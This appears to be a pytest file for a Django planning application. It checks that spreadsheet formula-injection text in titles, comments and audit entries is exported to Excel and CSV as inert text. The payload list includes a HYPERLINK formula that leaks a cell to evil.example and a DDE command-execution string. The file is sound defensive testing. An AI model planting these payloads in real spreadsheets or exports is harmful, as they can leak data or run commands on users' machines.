"""Spreadsheet formula injection: text anyone can type (an anonymous comment's proposed project, an
element or plan title) that starts with = + - @ tab or CR must reach every Excel and CSV export as
text, never as a live formula. Numbers stay numbers."""
import csv
import io
import re
import zipfile
from datetime import date, timedelta
from decimal import Decimal
from itertools import cycle

import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from oneplan.core import excel
from oneplan.plans.models import Plan
from oneplan.testing.factories import UserFactory

PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"คลิก")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1",
            "\r=1+1", "=cmd|' /C calc'!A0"]
# in CSV: a leading apostrophe; a CR becomes a line break inside the (quoted) field, never a new row
IN_CSV = {"'" + p.replace("\r", "\n") for p in PAYLOADS}
KEY = "choeng-thale-local-2566-2570"


def test_neutralise_text_and_leave_numbers_alone():
    for payload in PAYLOADS:
        assert excel.neutralise(payload) == "'" + payload
        assert excel.is_formula_like(payload)
    assert excel.csv_row(["x\r=1", 5]) == ["x\n=1", 5]
    for safe in ["ถนนลาดยาง", "", None, 5, Decimal("-1500.00"), "-1500.00", "+66", "ข้อ -1", date(2024, 1, 1)]:
        assert excel.neutralise(safe) == safe


# ---------------------------------------------------------------- a plan whose texts are all payloads

@pytest.fixture
def admin_client(db):
    client = Client()
    client.force_login(UserFactory(username="t-inject-admin", is_superuser=True, is_staff=True))
    return client


def draft_copy(key: str, new_key: str) -> Plan:
    """A draft copy of a demo plan (the demo plans are in force, hence frozen): same tree, projects,
    budgets and links."""
    from oneplan.plans.interchange import dump_plan, load_plan

    data = dump_plan(Plan.objects.get(key=key))
    data["plan"].update(key=new_key, status="draft", supersedes=None)
    return load_plan(data).plan


@pytest.fixture
def poisoned_plan(db):
    plan = draft_copy(KEY, "t-inject-copy")
    plan.title_th = PAYLOADS[0]
    plan.save()
    payloads = cycle(PAYLOADS)
    for element in plan.elements.all():
        element.title_th = next(payloads)
        element.save()
        project = getattr(element, "project", None)
        if project is not None:
            project.objective, project.responsible_unit = next(payloads), next(payloads)
            project.save()
    return plan


@pytest.mark.parametrize("fmt", ["xlsx-p01", "xlsx-p02", "xlsx-yt01"])
def test_plan_excel_exports(poisoned_plan, fmt):
    from oneplan.transfer import exports

    values = _xlsx_values(exports.export(poisoned_plan, fmt))
    if fmt == "xlsx-p02":
        assert set(PAYLOADS) <= set(values)  # project titles, objectives: shown exactly as typed
        assert any(isinstance(v, (int, float, Decimal)) and v > 0 for v in values)  # amounts stay numbers


def test_plan_csv_export(poisoned_plan):
    from oneplan.transfer import exports

    fields = _csv_fields(exports.to_csv(poisoned_plan).decode("utf-8-sig"))
    assert IN_CSV <= set(fields)


def test_plan_export_through_the_page(admin_client, poisoned_plan):
    for fmt in ("csv", "xlsx-p02"):
        content = _get(admin_client, reverse("transfer:export", args=[poisoned_plan.pk, fmt]))
        if fmt == "csv":
            assert "'" + PAYLOADS[0] in _csv_fields(content.decode("utf-8-sig"))
        else:
            assert PAYLOADS[0] in _xlsx_values(content)


def test_consultation_report(admin_client, poisoned_plan):
    from oneplan.consultation import services
    from oneplan.consultation.models import ConsultationRound

    round_ = ConsultationRound.objects.create(plan=poisoned_plan, title=PAYLOADS[1], status="open",
                                              opens_on=date.today() - timedelta(days=1), responsible="ทดสอบ")
    for payload in PAYLOADS:
        services.post_comment(round_, {"text": payload, "sector": "citizen", "kind": "new_project",
                                       "project_title": payload})
        services.post_comment(round_, {"text": payload, "sector": "citizen", "kind": "comment"})
    values = _xlsx_values(_get(admin_client, reverse("consultation:report_xlsx", args=[round_.pk])))
    assert set(PAYLOADS) <= set(values)


def test_edition_diff(admin_client, poisoned_plan):
    from oneplan.governance import services

    old = Plan.objects.get(key="phuket-provincial-2561-2564")
    assert old.status == "in_force"
    new = services.start_edition(old, admin_user(), edition_type="review", reason="ทดสอบ")
    for element, payload in zip(new.elements.order_by("id")[:len(PAYLOADS)], PAYLOADS, strict=False):
        element.title_th = payload
        element.save()
    values = _xlsx_values(_get(admin_client, reverse("governance:diff_export", args=[new.pk]),
                               {"against": old.pk}))
    assert set(PAYLOADS) <= set(values)


def test_audit_exports(admin_client, poisoned_plan):
    from oneplan.governance.models import AuditEntry

    for payload in PAYLOADS:
        AuditEntry.objects.create(action="update", model="plans.element", object_id="1", object_repr=payload,
                                  plan=poisoned_plan, message=payload)
    url = reverse("governance:plan_audit", args=[poisoned_plan.pk])
    fields = _csv_fields(_get(admin_client, url, {"format": "csv"}).decode("utf-8-sig"))
    assert IN_CSV <= set(fields)
    assert set(PAYLOADS) <= set(_xlsx_values(_get(admin_client, url, {"format": "xlsx"})))


def test_monitoring_report(admin_client, poisoned_plan):
    _xlsx_values(_get(admin_client, reverse("monitoring:report_xlsx", args=[poisoned_plan.pk]), {"year": 2567}))


def test_linkage_coverage(admin_client, poisoned_plan):
    values = _xlsx_values(_get(admin_client, reverse("linkage:coverage_export"),
                               {"scope": "plan", "plan": poisoned_plan.pk, "framework": "master-plans"}))
    assert PAYLOADS[0] in values  # the plan's title


def test_framework_csv_exports(admin_client, db, tmp_path, monkeypatch):
    """Framework titles are official texts (frozen in the database); the writers are tested with
    rows whose titles are payloads."""
    from oneplan.frameworks import export, views
    from oneplan.frameworks.management.commands import frameworks as command

    real = export.framework_rows("smart-city")
    poisoned = [{**row, "title_th": payload} for row, payload in zip(real, cycle(PAYLOADS), strict=False)]
    monkeypatch.setattr(views, "framework_rows", lambda code: poisoned)
    monkeypatch.setattr(command, "framework_rows", lambda code: poisoned)
    fields = _csv_fields(_get(admin_client, "/frameworks/smart-city.csv").decode("utf-8-sig"))
    assert IN_CSV <= set(fields)
    out = tmp_path / "smart-city.csv"
    call_command("frameworks", "export", "smart-city", "--format", "csv", "--output", str(out))
    assert IN_CSV <= set(_csv_fields(out.read_text("utf-8")))


# ---------------------------------------------------------------- helpers

def admin_user():
    from django.contrib.auth import get_user_model

    return get_user_model().objects.get(username="t-inject-admin")


def _get(client, url, params=None) -> bytes:
    response = client.get(url, params or {})
    assert response.status_code == 200, (url, response.status_code)
    return b"".join(response.streaming_content) if response.streaming else response.content


def _xlsx_values(data: bytes) -> list:
    """Every cell value, after checking that no cell of any sheet is a formula."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", z.read(name)), f"a formula in {name}"
    values = []
    for ws in load_workbook(io.BytesIO(data)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if cell.value is not None:
                    values.append(cell.value)
    return values


def _csv_fields(text: str) -> list[str]:
    fields = [f for row in csv.reader(io.StringIO(text)) for f in row]
    live = [f for f in fields if excel.is_formula_like(f)]
    assert not live, f"fields a spreadsheet would evaluate: {live[:5]}"
    return fields
